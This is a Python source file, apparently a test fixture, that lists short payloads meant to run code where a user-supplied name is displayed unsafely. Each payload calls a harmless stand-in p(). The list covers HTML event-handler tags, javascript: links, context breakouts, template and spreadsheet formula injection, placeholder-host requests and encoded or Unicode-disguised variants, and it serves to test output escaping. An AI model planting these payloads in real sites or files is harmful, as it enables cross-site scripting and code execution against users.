"""Texts that run where they are shown carelessly: each calls `p()`, and fits into a name of 32 characters."""

from __future__ import annotations

# Tags with a handler.
_TAGS = ["img src=x onerror", "IMG SRC=x ONERROR", "img/src/onerror", "svg onload", "svg/onload", "body onload"]
_TAGS += ["svg><animate onbegin", "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus"]
_TAGS += ["video src=x onerror", "audio src=x onerror", "video><source onerror", "details open ontoggle"]
_TAGS += ["marquee onstart", "button onclick", "p tabindex=0 onfocus"]
# Tags with an address, which can be code.
_LINKS = ["iframe src", "object data", "embed src", "a href", "math href", "form action", "base href"]
# What ends the place in which a text stands.
_ENDS = ["</pre>", "</td>", "</option>", "</textarea>", "</title>", "</script>", "-->", "]]>", '">', "'>"]
_ATTRIBUTES = ['" onmouseover=p() x="', "' onfocus=p() autofocus '", "` onerror=p()"]
_TEMPLATES = ["{{constructor.constructor('p()')", "${p()}", "#{p()}", "{% p() %}", "cell.value=p()", "'] || p() || ['"]
_MATH = ["$\\href{javascript:p()}{x}$", "$$\\unicode{<svg onload=p()>}$$", "\\(\\href{javascript:p()}{x}\\)"]
_FORMULAS = ["=p()+1", '=HYPERLINK("javascript:p()")', "@p()+cmd", "+p()|'/C calc'!A0"]

NAMES = (
    "<script>p()</script>",
    "<svg><script>p()</script>",
    "<img src onerror='p()'>",
    "<iframe srcdoc='<svg onload=p()>",
    *(f"<{tag}=p()>" for tag in _TAGS),
    *(f"<{link}=javascript:p()>" for link in _LINKS),
    *(f"{end}<svg onload=p()>" for end in _ENDS),
    *_ATTRIBUTES,
    *_TEMPLATES,
    *_MATH,
    *_FORMULAS,
    # Other hosts, where no request may go.
    *("<link rel=import href=//x.test>", "<link rel=stylesheet href=//x.t>", "<style>@import'//x.t'</style>"),
    *("<img src=//x.test/a.png>", "<meta http-equiv=refresh>"),
    # Encoded, and in disguise.
    *("&lt;svg onload=p()&gt;", "&#60;svg onload=p()>", "\\x3csvg onload=p()>", "\\u003csvg onload=p()>"),
    *("javascript:p()", "data:text/html,<svg onload=p()>"),
    *("<\u200bsvg onload=p()>", "\u202esvg onload=p()", "＜svg onload=p()＞", "<ſcript>p()</ſcript>"),
)
